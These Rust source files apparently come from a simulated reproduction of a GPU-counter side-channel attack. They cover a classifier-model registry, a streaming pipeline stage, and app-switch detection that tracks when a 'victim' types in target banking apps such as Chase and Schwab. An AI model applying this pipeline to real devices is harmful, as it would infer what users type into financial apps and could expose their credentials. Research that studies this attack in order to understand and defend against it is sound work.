    /// (last_used, inserted_at, digest) minimum — a pure function of
    /// contents. Returns the fleet keys whose mapping died with a victim;
    /// the caller purges their train-once cells so the key retrains.
    fn evict_to_budget(&mut self, budget: usize, protect: ModelDigest) -> Vec<ModelKey> {
        let mut purged = Vec::new();
        while self.total_bytes > budget {
            let victim = self
                .entries
                .iter()
                .filter(|(d, e)| !e.pinned && **d != protect)
                .min_by_key(|(d, e)| (e.last_used, e.inserted_at, **d))
                .map(|(d, _)| *d);
            let Some(digest) = victim else { break };
            let entry = self.entries.remove(&digest).expect("victim came from entries");
            self.total_bytes -= entry.handle.encoded_len();
            self.eviction_log.push(digest);
            spansight::count("core.registry.evictions", 1);
            for key in self.keys_of.remove(&digest).unwrap_or_default() {
                self.by_key.remove(&key);
                purged.push(key);
            }
        }
        purged
    }
}

/// The content-addressed model registry. See the module docs for the full
/// picture; in one sentence: *every trained model in the process lives
/// here, under its digest, in encoded form, decoded lazily, evicted
/// deterministically, and adapted with tracked lineage.*
pub struct Registry {
    config: RegistryConfig,
    /// Train-once-per-key cells (absorbed from the old `bench::ModelCache`):
    /// concurrent `get_or_train` calls for one key block on one `OnceLock`
    /// and share the single trained model. Held separately from `state` —
    /// the two locks are never held at once (training runs with neither).
    cells: Mutex<HashMap<ModelKey, Arc<OnceLock<ModelHandle>>>>,
    state: Mutex<State>,
}

impl fmt::Debug for Registry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let stats = self.stats();
        f.debug_struct("Registry").field("config", &self.config).field("stats", &stats).finish()
    }
}

impl Default for Registry {
    fn default() -> Self {
        Registry::new(RegistryConfig::default())
    }
}

impl Registry {
    /// Creates an empty registry with the given policy.
    pub fn new(config: RegistryConfig) -> Self {
        Registry { config, cells: Mutex::new(HashMap::new()), state: Mutex::new(State::default()) }
    }

    /// The policy the registry was built with.
    pub fn config(&self) -> &RegistryConfig {
        &self.config
    }

    /// Number of live entries.
    pub fn len(&self) -> usize {
        self.state.lock().unwrap().entries.len()
    }

    /// Whether the registry holds no models.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Returns the key's model, training it exactly once on first miss
    /// (recency tick 0 — use [`Registry::get_or_train_at`] when eviction
    /// order matters).
    pub fn get_or_train(
        &self,
        device: DeviceConfig,
        keyboard: KeyboardKind,
        app: TargetApp,
    ) -> ModelHandle {
        self.get_or_train_at(device, keyboard, app, 0)
    }

    /// [`Registry::get_or_train`] with a caller-assigned logical recency
    /// tick. Concurrent callers for one key share a single training run.
    pub fn get_or_train_at(
        &self,
        device: DeviceConfig,
        keyboard: KeyboardKind,
        app: TargetApp,
        tick: u64,
    ) -> ModelHandle {
        let key = (device, keyboard, app);
        if let Some(handle) = self.lookup_at(&key, tick) {
            return handle;
        }
        let cell = {
            let mut cells = self.cells.lock().unwrap();
            Arc::clone(cells.entry(key).or_default())
        };
        cell.get_or_init(|| {
            spansight::count("core.registry.trainings", 1);
            let model = Trainer::new(self.config.trainer.clone()).train(device, keyboard, app);
            {
                let mut st = self.state.lock().unwrap();
                st.trainings += 1;
            }
            self.insert_arc_at(key, Arc::new(model), tick)
        })
        .clone()
    }

    /// Trains a model with an explicit [`TrainerConfig`] (the counter-mask
    /// ablations need non-default trainers) and registers it under `key`.
    /// Bypasses the train-once cell — distinct trainer configurations for
    /// one key are distinct models, deduplicated by digest instead.
    ///
    /// The key now maps to *this* model: later [`Registry::get_or_train`]
    /// calls for the key return it, not a default-trained one. On a shared
    /// registry that shadows the key for every other user — experiment
    /// code wanting a one-off variant should use a private registry.
    pub fn train_with(
        &self,
        trainer: TrainerConfig,
        device: DeviceConfig,
        keyboard: KeyboardKind,
        app: TargetApp,
    ) -> ModelHandle {
        spansight::count("core.registry.trainings", 1);
        let model = Trainer::new(trainer).train(device, keyboard, app);
        {
            let mut st = self.state.lock().unwrap();
            st.trainings += 1;
        }
        self.insert_arc_at((device, keyboard, app), Arc::new(model), 0)
    }

    /// Looks the key up without training, folding `tick` into the entry's
    /// recency (`max`, so concurrent touches commute).
    pub fn lookup_at(&self, key: &ModelKey, tick: u64) -> Option<ModelHandle> {
        let mut st = self.state.lock().unwrap();
        st.lookups += 1;
        spansight::count("core.registry.lookups", 1);
        let digest = st.by_key.get(key).copied()?;
        st.hits += 1;
        spansight::count("core.registry.hits", 1);
        let entry = st.entries.get_mut(&digest).expect("by_key maps to live entries");
        entry.last_used = entry.last_used.max(tick);
        Some(entry.handle.clone())
    }

    /// Resolves a digest to its handle without touching recency — the wire
    /// server's path: a `Hello` names the model by content, not by key.
    pub fn resolve(&self, digest: &ModelDigest) -> Option<ModelHandle> {
        let st = self.state.lock().unwrap();
        st.entries.get(digest).map(|e| e.handle.clone())
    }

    /// Registers an already-trained model under `key` at the configured
    /// quantization tier. Same digest → the existing handle is shared
    /// (counted as a dedup hit), no new bytes are held.
    pub fn insert_model_at(
        &self,
        key: ModelKey,
        model: Arc<ClassifierModel>,
        tick: u64,
    ) -> ModelHandle {
        self.insert_arc_at(key, model, tick)
    }

    /// Registers a pre-encoded GPMR blob under `key` without decoding it
    /// (header validation only — the blob must come from [`encode_model`]).
    /// This is the bulk-load path: inserting 10k fleet models costs 10k
    /// digests, not 10k decodes.
    ///
    /// # Errors
    ///
    /// Header-level [`ModelDecodeError`]s (magic/version/tier/meta).
    pub fn insert_encoded_at(
        &self,
        key: ModelKey,
        blob: Bytes,
        tick: u64,
    ) -> Result<ModelHandle, ModelDecodeError> {
        let handle = ModelHandle::from_trusted_blob(blob)?;
        Ok(self.insert_handle_at(key, handle, tick))
    }

    fn insert_arc_at(&self, key: ModelKey, model: Arc<ClassifierModel>, tick: u64) -> ModelHandle {
        let handle = ModelHandle::from_arc(model, self.config.quantization);
        self.insert_handle_at(key, handle, tick)
    }

    fn insert_handle_at(&self, key: ModelKey, handle: ModelHandle, tick: u64) -> ModelHandle {
        let digest = handle.digest();
        let (shared, purged) = {
            let mut st = self.state.lock().unwrap();
            st.inserts += 1;
            spansight::count("core.registry.inserts", 1);
            let existing = st.entries.get_mut(&digest).map(|entry| {
                entry.last_used = entry.last_used.max(tick);
                entry.handle.clone()
            });
            if let Some(shared) = existing {
                st.dedup_hits += 1;
                spansight::count("core.registry.dedup_hits", 1);
                st.map_key(key, digest);
                (shared, Vec::new())
            } else {
                st.total_bytes += handle.encoded_len();
                st.entries.insert(
                    digest,
                    Entry {
                        handle: handle.clone(),
                        pinned: false,
                        last_used: tick,
                        inserted_at: tick,
                    },
                );
                st.map_key(key, digest);
                let purged = match self.config.byte_budget {
                    Some(budget) => st.evict_to_budget(budget, digest),
                    None => Vec::new(),
                };
                (handle, purged)
            }
        };
        self.purge_cells(&purged);
        shared
    }

    /// Drops the train-once cells of keys whose entry was evicted, so a
    /// later `get_or_train` for them retrains rather than resurrecting the
    /// evicted handle.
    fn purge_cells(&self, keys: &[ModelKey]) {
        if keys.is_empty() {
            return;
        }
        let mut cells = self.cells.lock().unwrap();
        for key in keys {
            cells.remove(key);
        }
    }

    /// Pins a digest: pinned entries are never evicted. Returns `false` if
    /// the digest is not registered.
    pub fn pin(&self, digest: &ModelDigest) -> bool {
        let mut st = self.state.lock().unwrap();
        match st.entries.get_mut(digest) {
            Some(e) => {
                e.pinned = true;
                true
            }
            None => false,
        }
    }

    /// Unpins a digest, making it evictable again. Returns `false` if the
    /// digest is not registered.
    pub fn unpin(&self, digest: &ModelDigest) -> bool {
        let mut st = self.state.lock().unwrap();
        match st.entries.get_mut(digest) {
            Some(e) => {
                e.pinned = false;
                true
            }
            None => false,
        }
    }

    /// Folds a corrected session's observations into the parent model's
    /// centroids with an exponential moving average
    /// (`new = (1-α)·old + α·observed`, rounded back to counter space),
    /// registering the result as a **new** model: a new digest, with
    /// `parent → child` lineage recorded, and every fleet key that mapped
    /// to the parent remapped to the child. Corrections for characters the
    /// model has no centroid for are ignored.
    ///
    /// Returns `None` when `parent` is not registered; returns the parent's
    /// own handle when the fold is a no-op (no matching characters, or the
    /// EMA rounds back to the identical encoding).
    pub fn adapt_at(
        &self,
        parent: &ModelDigest,
        corrections: &[(char, CounterSet)],
        tick: u64,
    ) -> Option<ModelHandle> {
        let parent_handle = {
            let st = self.state.lock().unwrap();
            st.entries.get(parent)?.handle.clone()
        };
        let alpha = self.config.ema_alpha;
        let model = parent_handle.model();
        let mut centroids = model.centroids().to_vec();
        let mut changed = false;
        for (ch, observed) in corrections {
            if let Some(centroid) = centroids.iter_mut().find(|c| c.ch == *ch) {
                let mut folded = [0u64; NUM_TRACKED];
                for (slot, (&old, &obs)) in folded
                    .iter_mut()
                    .zip(centroid.values.as_array().iter().zip(observed.as_array()))
                {
                    *slot = to_counter((1.0 - alpha) * old as f64 + alpha * obs as f64);
                }
                centroid.values = CounterSet::from_array(folded);
                changed = true;
            }
        }
        if !changed {
            return Some(parent_handle);
        }
        let child_model = Arc::new(model.with_centroids(centroids));
        let child = ModelHandle::from_arc(child_model, self.config.quantization);
        if child.digest() == *parent {
            return Some(parent_handle);
        }
        let child_digest = child.digest();
        let (shared, purged) = {
            let mut st = self.state.lock().unwrap();
            // Re-check the parent under the lock; it may have been evicted
            // while we folded.
            if !st.entries.contains_key(parent) {
                return None;
            }
            st.inserts += 1;
            spansight::count("core.registry.inserts", 1);
            let existing = st.entries.get_mut(&child_digest).map(|entry| {
                entry.last_used = entry.last_used.max(tick);
                entry.handle.clone()
            });
            let (shared, purged) = if let Some(shared) = existing {
                st.dedup_hits += 1;
                spansight::count("core.registry.dedup_hits", 1);
                (shared, Vec::new())
            } else {
                st.total_bytes += child.encoded_len();
                st.entries.insert(
                    child_digest,
                    Entry {
                        handle: child.clone(),
                        pinned: false,
                        last_used: tick,
                        inserted_at: tick,
                    },
                );
                let purged = match self.config.byte_budget {
                    Some(budget) => st.evict_to_budget(budget, child_digest),
                    None => Vec::new(),
                };
                (child, purged)
            };
            st.adaptations += 1;
            spansight::count("core.registry.adaptations", 1);
            st.lineage.push((*parent, child_digest));
            // Remap every key that still points at the parent.
            let keys = st.keys_of.get(parent).cloned().unwrap_or_default();
            for key in keys {
                st.map_key(key, child_digest);
            }
            (shared, purged)
        };
        self.purge_cells(&purged);
        Some(shared)
    }

    /// The digest this model was adapted from, if it is an adaptation
    /// child. Walking `parent_of` repeatedly reconstructs the full lineage
    /// chain back to the originally trained root.
    pub fn parent_of(&self, digest: &ModelDigest) -> Option<ModelDigest> {
        let st = self.state.lock().unwrap();
        st.lineage.iter().rev().find(|(_, c)| c == digest).map(|(p, _)| *p)
    }

    /// Digests evicted so far, in eviction order. Deterministic for a
    /// deterministic tick assignment — the `registry` experiment prints a
    /// prefix of it and CI diffs the output across `--jobs` counts.
    pub fn eviction_log(&self) -> Vec<ModelDigest> {
        self.state.lock().unwrap().eviction_log.clone()
    }

    /// Snapshot of the registry's counters and occupancy.
    pub fn stats(&self) -> RegistryStats {
        let st = self.state.lock().unwrap();
        RegistryStats {
            lookups: st.lookups,
            hits: st.hits,
            trainings: st.trainings,
            dedup_hits: st.dedup_hits,
            evictions: st.eviction_log.len() as u64,
            adaptations: st.adaptations,
            inserts: st.inserts,
            keys: st.by_key.len(),
            models: st.entries.len(),
            total_bytes: st.total_bytes,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use android_ui::SimConfig;

    fn trained_model() -> ClassifierModel {
        let cfg = SimConfig::paper_default(11);
        Trainer::new(TrainerConfig::default()).train(cfg.device, cfg.keyboard, cfg.app)
    }

    fn key_of(cfg: &SimConfig) -> ModelKey {
        (cfg.device, cfg.keyboard, cfg.app)
    }

    #[test]
    fn f64_round_trip_is_bit_exact() {
        let model = trained_model();
        let blob = encode_model(&model, Quantization::F64);
        let back = decode_model(blob).expect("decodes");
        assert_eq!(back, model);
    }

    #[test]
    fn digest_stable_across_reencode_at_every_tier() {
        let model = trained_model();
        for q in Quantization::ALL {
            let blob = encode_model(&model, q);
            let decoded = decode_model(blob.clone()).expect("decodes");
            let reencoded = encode_model(&decoded, q);
            assert_eq!(blob, reencoded, "tier {} re-encode changed bytes", q.name());
            assert_eq!(ModelDigest::of(&blob), ModelDigest::of(&reencoded));
        }
    }

    #[test]
    fn lossy_tiers_stay_within_documented_bounds() {
        let model = trained_model();
        for q in [Quantization::F32, Quantization::I16] {
            let decoded = decode_model(encode_model(&model, q)).expect("decodes");
            for (orig, dec) in model.centroids().iter().zip(decoded.centroids()) {
                let max = orig.values.as_array().iter().copied().max().unwrap_or(0);
                for (&v, &d) in orig.values.as_array().iter().zip(dec.values.as_array()) {
                    let err = v.abs_diff(d) as f64;
                    let bound = match q {
                        Quantization::F32 => v as f64 / (1u64 << 23) as f64 + 1.0,
                        Quantization::I16 => max as f64 / (2.0 * I16_LEVELS as f64) + 1.0,
                        Quantization::F64 => unreachable!(),
                    };
                    assert!(err <= bound, "{} err {err} > bound {bound}", q.name());
                }
            }
            // Weights and threshold are never quantized.
            assert_eq!(decoded.weights(), model.weights());
            assert_eq!(decoded.threshold(), model.threshold());
        }
    }

    #[test]
    fn i16_is_lossless_below_the_level_count() {
        let model = trained_model();
        let decoded = decode_model(encode_model(&model, Quantization::I16)).expect("decodes");
        for (orig, dec) in model.centroids().iter().zip(decoded.centroids()) {
            let max = orig.values.as_array().iter().copied().max().unwrap_or(0);
            if max <= I16_LEVELS {
                assert_eq!(orig.values, dec.values);
            }
        }
    }

    #[test]
    fn truncated_blobs_never_panic() {
        let blob = encode_model(&trained_model(), Quantization::I16);
        for len in 0..blob.len() {
            assert!(decode_model(blob.slice(..len)).is_err(), "truncation at {len} accepted");
        }
    }

    #[test]
    fn train_once_and_dedup() {
        let registry = Registry::default();
        let cfg = SimConfig::paper_default(3);
        let a = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
        let b = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
        assert_eq!(a.digest(), b.digest());
        assert!(std::ptr::eq(a.model(), b.model()), "handles share one decoded model");
        let stats = registry.stats();
        assert_eq!(stats.trainings, 1);
        assert_eq!(stats.models, 1);

        // Inserting the identical model under a different key dedups.
        let mut other = key_of(&cfg);
        other.1 = KeyboardKind::Swift;
        let c = registry.insert_model_at(other, a.model_arc(), 5);
        assert_eq!(c.digest(), a.digest());
        assert_eq!(registry.stats().dedup_hits, 1);
        assert_eq!(registry.stats().models, 1);
    }

    #[test]
    fn concurrent_get_or_train_trains_once() {
        let registry = Arc::new(Registry::default());
        let cfg = SimConfig::paper_default(3);
        let pool = minipool::Pool::new(4);
        let handles = pool.par_map(vec![0u8; 8], |_, _| {
            registry.get_or_train(cfg.device, cfg.keyboard, cfg.app).digest()
        });
        assert!(handles.windows(2).all(|w| w[0] == w[1]));
        assert_eq!(registry.stats().trainings, 1);
    }

    #[test]
    fn eviction_is_deterministic_and_respects_pins() {
        let model = Arc::new(trained_model());
        let blob_len = ModelHandle::from_arc(Arc::clone(&model), Quantization::F64).encoded_len();
        let build = || {
            Registry::new(RegistryConfig {
                // Room for three entries.
                byte_budget: Some(blob_len * 3 + blob_len / 2),
                ..RegistryConfig::default()
            })
        };
        // Four distinct models via distinct thresholds.
        let variants: Vec<Arc<ClassifierModel>> =
            (1..=4).map(|i| Arc::new(model.with_threshold(i as f64))).collect();
        let cfg = SimConfig::paper_default(3);
        let keys: Vec<ModelKey> =
            [TargetApp::Chase, TargetApp::Amex, TargetApp::Fidelity, TargetApp::Schwab]
                .into_iter()
                .map(|app| (cfg.device, cfg.keyboard, app))
                .collect();

        let registry = build();
        for (i, (key, m)) in keys.iter().zip(&variants).enumerate() {
            registry.insert_model_at(*key, Arc::clone(m), i as u64);
        }
        // Budget fits 3: the oldest (tick 0) entry must have been evicted.
        let log = registry.eviction_log();
        assert_eq!(log.len(), 1);
        assert_eq!(
            log[0],
            ModelHandle::from_arc(Arc::clone(&variants[0]), Quantization::F64).digest()
        );
        assert!(registry.lookup_at(&keys[0], 10).is_none(), "evicted key must miss");
        assert_eq!(registry.stats().models, 3);

        // Same inserts, but with the would-be victim pinned: the next-oldest
        // unpinned entry goes instead.
        let registry = build();
        let first = registry.insert_model_at(keys[0], Arc::clone(&variants[0]), 0);
        assert!(registry.pin(&first.digest()));
        for (i, (key, m)) in keys.iter().zip(&variants).enumerate().skip(1) {
            registry.insert_model_at(*key, Arc::clone(m), i as u64);
        }
        let log = registry.eviction_log();
        assert_eq!(log.len(), 1);
        assert_eq!(
            log[0],
            ModelHandle::from_arc(Arc::clone(&variants[1]), Quantization::F64).digest()
        );
        assert!(registry.lookup_at(&keys[0], 10).is_some(), "pinned entry survives");
    }

    #[test]
    fn parallel_touches_do_not_perturb_eviction_order() {
        // Touch recency is a commutative max-fold of caller-assigned ticks,
        // so the same touch multiset through 1 or 4 workers must produce
        // the same eviction log once inserts push past the budget.
        let model = Arc::new(trained_model());
        let variants: Vec<Arc<ClassifierModel>> =
            (1..=6).map(|i| Arc::new(model.with_threshold(i as f64))).collect();
        let blob_len =
            ModelHandle::from_arc(Arc::clone(&variants[0]), Quantization::F64).encoded_len();
        let cfg = SimConfig::paper_default(3);
        let apps = [
            TargetApp::Chase,
            TargetApp::Amex,
            TargetApp::Fidelity,
            TargetApp::Schwab,
            TargetApp::MyFico,
            TargetApp::Experian,
        ];
        let keys: Vec<ModelKey> =
            apps.into_iter().map(|app| (cfg.device, cfg.keyboard, app)).collect();
        // Pre-drawn touch schedule: (key index, tick).
        let touches: Vec<(usize, u64)> =
            (0..64u64).map(|i| ((i as usize * 7) % 4, 100 + (i * 13) % 50)).collect();

        let run = |workers: usize| {
            let registry = Arc::new(Registry::new(RegistryConfig {
                byte_budget: Some(blob_len * 4 + blob_len / 2),
                ..RegistryConfig::default()
            }));
            for (i, (key, m)) in keys.iter().zip(&variants).enumerate().take(4) {
                registry.insert_model_at(*key, Arc::clone(m), i as u64);
            }
            let pool = minipool::Pool::new(workers);
            pool.par_map(touches.clone(), |_, (ki, tick)| {
                registry.lookup_at(&keys[ki], tick);
            });
            // Two more inserts force two evictions.
            registry.insert_model_at(keys[4], Arc::clone(&variants[4]), 200);
            registry.insert_model_at(keys[5], Arc::clone(&variants[5]), 201);
            registry.eviction_log()
        };
        assert_eq!(run(1), run(4));
    }

    #[test]
    fn adaptation_produces_lineage_and_remaps_keys() {
        let registry = Registry::default();
        let cfg = SimConfig::paper_default(3);
        let key = key_of(&cfg);
        let parent = registry.get_or_train(cfg.device, cfg.keyboard, cfg.app);
        let ch = parent.model().centroids()[0].ch;
        let mut observed = parent.model().centroids()[0].values;
        let shifted: Vec<u64> = observed.as_array().iter().map(|v| v + 400).collect();
        observed = CounterSet::from_array(shifted.try_into().unwrap());

        let child = registry
            .adapt_at(&parent.digest(), &[(ch, observed)], 7)
            .expect("parent is registered");
        assert_ne!(child.digest(), parent.digest());
        assert_eq!(registry.parent_of(&child.digest()), Some(parent.digest()));
        // The fleet key now resolves to the child.
        let resolved = registry.lookup_at(&key, 8).expect("key still mapped");
        assert_eq!(resolved.digest(), child.digest());
        // EMA with α=0.25: new = 0.75·old + 0.25·(old+400) = old + 100.
        let old = parent.model().centroids()[0].values;
        let new = child.model().centroids().iter().find(|c| c.ch == ch).unwrap().values;
        for (&o, &n) in old.as_array().iter().zip(new.as_array()) {
            assert_eq!(n, o + 100);
        }
        assert_eq!(registry.stats().adaptations, 1);

        // Adapting with an unknown character is a no-op returning the
        // parent handle.
        let same = registry.adapt_at(&child.digest(), &[('\u{10FFFF}', observed)], 9).unwrap();
        assert_eq!(same.digest(), child.digest());
    }

    #[test]
    fn from_blob_validates_and_from_trusted_blob_defers() {
        let model = trained_model();
        let blob = encode_model(&model, Quantization::F32);
        let h = ModelHandle::from_blob(blob.clone()).expect("valid blob");
        assert!(h.is_decoded(), "untrusted path decodes eagerly");
        let t = ModelHandle::from_trusted_blob(blob).expect("valid header");
        assert!(!t.is_decoded(), "trusted path defers decode");
        assert_eq!(t.digest(), h.digest());
        assert_eq!(t.model().meta(), model.meta());
        assert!(t.is_decoded());

        let mut corrupt = BytesMut::new();
        corrupt.put_slice(b"GPXX");
        corrupt.put_slice(&[1; 8]);
        assert!(ModelHandle::from_blob(corrupt.freeze()).is_err());
    }

    #[test]
    fn sha256_matches_reference_vectors() {
        // FIPS 180-4 test vectors.
        let empty = ModelDigest::of(b"");
        assert_eq!(
            empty.to_string(),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        );
        let abc = ModelDigest::of(b"abc");
        assert_eq!(
            abc.to_string(),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        // One full block + spill (448-bit message).
        let two = ModelDigest::of(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq");
        assert_eq!(
            two.to_string(),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
        );
    }
}
