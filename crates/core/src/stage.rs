//! The streaming stage abstraction behind the online pipeline.
//!
//! The paper's online phase (§3.2, §5) runs *live* while the victim types,
//! so the pipeline is shaped as a chain of push-based stages rather than
//! sequential whole-trace passes: each stage consumes one typed input event
//! at a time, holds only bounded state (a previous sample, a one-change
//! lookahead buffer, a pending ambiguity), and emits typed events for the
//! next stage. [`Stage::finish`] flushes whatever a stage is still holding
//! when the sample stream ends.
//!
//! The stages, in pipeline order:
//!
//! | Stage | In → Out | Held state |
//! |---|---|---|
//! | [`crate::trace::DeltaStage`] | `Sample` → `Delta` | previous sample |
//! | [`crate::offline::RecognizeStage`] | `Delta` → `Delta` | warm-up prefix until a model matches |
//! | [`crate::launch::LaunchGate`] | `Delta` → `Delta` | nothing (gates on the launch burst) |
//! | [`crate::appswitch::SwitchStage`] | `Delta` → `SwitchEvent` | burst/return bookkeeping |
//! | [`crate::online::InferStage`] | `Delta` → `InferEvent` | `prev` fragment (+ one-change lookahead) |
//! | [`crate::correction::CorrectionStage`] | `InferEvent` → `CorrectionEvent` | blink grid + pending ambiguity |
//!
//! Every stage is deterministic and side-effect-free apart from telemetry,
//! so driving a recorded trace through the chain produces byte-identical
//! output to the live interleaved drive — the property the equivalence
//! tests pin down.

/// A push-based streaming pipeline stage.
///
/// Implementations append their output events to the caller-supplied
/// buffer instead of returning them, so a hot pipeline can reuse one
/// scratch vector per stage and a single push usually allocates nothing.
pub trait Stage {
    /// The event type this stage consumes.
    type In;
    /// The event type this stage emits.
    type Out;

    /// Pushes one input event through the stage, appending any resulting
    /// output events to `out` in emission order.
    fn push(&mut self, input: Self::In, out: &mut Vec<Self::Out>);

    /// Signals end of stream: the stage flushes any held state as final
    /// output events. Pushing after `finish` is a logic error.
    fn finish(&mut self, out: &mut Vec<Self::Out>);
}

/// Drives a complete input sequence through `stage` and collects every
/// output event — the batch shim used by whole-trace entry points and
/// tests.
pub fn run_to_vec<S: Stage>(stage: &mut S, inputs: impl IntoIterator<Item = S::In>) -> Vec<S::Out> {
    let mut out = Vec::new();
    for input in inputs {
        stage.push(input, &mut out);
    }
    stage.finish(&mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Emits the running sum after each push and the final count at finish.
    struct Summer {
        sum: u64,
        n: u64,
    }

    impl Stage for Summer {
        type In = u64;
        type Out = u64;

        fn push(&mut self, input: u64, out: &mut Vec<u64>) {
            self.sum += input;
            self.n += 1;
            out.push(self.sum);
        }

        fn finish(&mut self, out: &mut Vec<u64>) {
            out.push(self.n);
        }
    }

    #[test]
    fn run_to_vec_pushes_then_finishes() {
        let mut s = Summer { sum: 0, n: 0 };
        assert_eq!(run_to_vec(&mut s, [3, 4, 5]), vec![3, 7, 12, 3]);
    }
}
