//! Application-switch detection (§5.2, Fig 13).
//!
//! Switching apps plays the overview animation: a run of large counter
//! changes spaced less than 50 ms apart — far faster than human typing.
//! The detector recognises these bursts and toggles an "in target app"
//! flag, so the inference engine only consumes changes produced while the
//! victim is typing in the target application.

use adreno_sim::time::{SimDuration, SimInstant};

use crate::trace::Delta;

/// Configuration of the burst detector.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SwitchConfig {
    /// Magnitude above which a change is switch-animation-sized (trained:
    /// [`crate::classify::ClassifierModel::switch_threshold`]).
    pub magnitude_threshold: u64,
    /// Maximum spacing inside a burst (the paper observes < 50 ms).
    pub burst_gap: SimDuration,
    /// Changes needed to confirm a burst.
    pub min_burst: usize,
}

impl SwitchConfig {
    /// Builds the config from a trained model threshold.
    pub fn with_threshold(magnitude_threshold: u64) -> Self {
        SwitchConfig { magnitude_threshold, burst_gap: SimDuration::from_millis(50), min_burst: 3 }
    }
}

/// Streaming app-switch detector.
///
/// Feed every observed change in order; [`SwitchDetector::observe`] returns
/// whether the victim is in the target app *after* accounting for that
/// change.
#[derive(Debug)]
pub struct SwitchDetector {
    config: SwitchConfig,
    in_target: bool,
    burst_len: usize,
    last_big_at: Option<SimInstant>,
    /// Set while the current burst has already toggled the state, so one
    /// long animation doesn't toggle twice.
    toggled_this_burst: bool,
    switches_detected: usize,
}

impl SwitchDetector {
    /// Creates a detector; the victim starts in the target app.
    pub fn new(config: SwitchConfig) -> Self {
        SwitchDetector {
            config,
            in_target: true,
            burst_len: 0,
            last_big_at: None,
            toggled_this_burst: false,
            switches_detected: 0,
        }
    }

    /// Whether the victim is currently believed to be in the target app.
    pub fn in_target(&self) -> bool {
        self.in_target
    }

    /// Number of switch bursts detected so far.
    pub fn switches_detected(&self) -> usize {
        self.switches_detected
    }

    /// Observes one change; returns `in_target` after the update.
    pub fn observe(&mut self, delta: &Delta) -> bool {
        let big = delta.magnitude() >= self.config.magnitude_threshold;
        if big {
            let continues = self
                .last_big_at
                .is_some_and(|t| delta.at.saturating_since(t) <= self.config.burst_gap);
            self.burst_len = if continues { self.burst_len + 1 } else { 1 };
            self.last_big_at = Some(delta.at);
            if !continues {
                self.toggled_this_burst = false;
            }
            if self.burst_len >= self.config.min_burst && !self.toggled_this_burst {
                self.in_target = !self.in_target;
                self.toggled_this_burst = true;
                self.switches_detected += 1;
            }
        } else if self
            .last_big_at
            .is_none_or(|t| delta.at.saturating_since(t) > self.config.burst_gap)
        {
            self.burst_len = 0;
            self.toggled_this_burst = false;
        }
        self.in_target
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adreno_sim::counters::{CounterSet, TrackedCounter};

    fn delta(ms: u64, magnitude: u64) -> Delta {
        let mut values = CounterSet::ZERO;
        values[TrackedCounter::LrzVisiblePixelAfterLrz] = magnitude;
        Delta { at: SimInstant::from_millis(ms), values }
    }

    fn detector() -> SwitchDetector {
        SwitchDetector::new(SwitchConfig::with_threshold(1_000_000))
    }

    #[test]
    fn typing_changes_never_toggle() {
        let mut det = detector();
        for ms in (0..2_000).step_by(250) {
            assert!(det.observe(&delta(ms, 200_000)), "key-sized changes keep us in target");
        }
        assert_eq!(det.switches_detected(), 0);
    }

    #[test]
    fn burst_toggles_once_and_return_burst_toggles_back() {
        let mut det = detector();
        // Away burst: 6 big frames 16 ms apart.
        for i in 0..6u64 {
            det.observe(&delta(1_000 + i * 16, 2_000_000));
        }
        assert!(!det.in_target(), "burst must flip to out-of-target");
        assert_eq!(det.switches_detected(), 1);
        // Quiet usage of the other app.
        det.observe(&delta(2_000, 400_000));
        assert!(!det.in_target());
        // Return burst.
        for i in 0..6u64 {
            det.observe(&delta(3_000 + i * 16, 2_000_000));
        }
        assert!(det.in_target(), "second burst returns to target");
        assert_eq!(det.switches_detected(), 2);
    }

    #[test]
    fn slow_big_changes_are_not_a_burst() {
        let mut det = detector();
        // Big changes 200 ms apart (e.g. shade opening then app redraw)
        // never reach burst length.
        for i in 0..8u64 {
            det.observe(&delta(1_000 + i * 200, 2_000_000));
        }
        assert!(det.in_target());
        assert_eq!(det.switches_detected(), 0);
    }

    #[test]
    fn two_frame_flicker_is_ignored() {
        let mut det = detector();
        det.observe(&delta(100, 2_000_000));
        det.observe(&delta(116, 2_000_000));
        assert!(det.in_target(), "min_burst is 3");
    }

    #[test]
    fn one_long_burst_toggles_only_once() {
        let mut det = detector();
        for i in 0..20u64 {
            det.observe(&delta(1_000 + i * 16, 2_000_000));
        }
        assert!(!det.in_target());
        assert_eq!(det.switches_detected(), 1);
    }
}
