//! Application-switch detection (§5.2, Fig 13).
//!
//! Switching apps plays the overview animation: a run of large counter
//! changes spaced less than 50 ms apart — far faster than human typing.
//! The detector recognises these bursts and toggles an "in target app"
//! flag, so the inference engine only consumes changes produced while the
//! victim is typing in the target application.

use adreno_sim::time::{SimDuration, SimInstant};

use crate::stage::Stage;
use crate::trace::Delta;

/// Configuration of the burst detector.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SwitchConfig {
    /// Magnitude above which a change is switch-animation-sized (trained:
    /// [`crate::classify::ClassifierModel::switch_threshold`]).
    pub magnitude_threshold: u64,
    /// Maximum spacing inside a burst (the paper observes < 50 ms).
    pub burst_gap: SimDuration,
    /// Changes needed to confirm a burst.
    pub min_burst: usize,
}

impl SwitchConfig {
    /// Builds the config from a trained model threshold.
    pub fn with_threshold(magnitude_threshold: u64) -> Self {
        SwitchConfig { magnitude_threshold, burst_gap: SimDuration::from_millis(50), min_burst: 3 }
    }
}

/// Streaming app-switch detector.
///
/// Feed every observed change in order; [`SwitchDetector::observe`] returns
/// whether the victim is in the target app *after* accounting for that
/// change.
#[derive(Debug)]
pub struct SwitchDetector {
    config: SwitchConfig,
    in_target: bool,
    burst_len: usize,
    last_big_at: Option<SimInstant>,
    /// Set while the current burst has already toggled the state, so one
    /// long animation doesn't toggle twice.
    toggled_this_burst: bool,
    switches_detected: usize,
    /// The last frame of a return burst still running: the victim's
    /// cursor-blink timer restarts when the switch-back animation
    /// *finishes*, so the re-anchor time is the burst's last frame, not its
    /// first. Resolved by the first quiet in-target change (or at end of
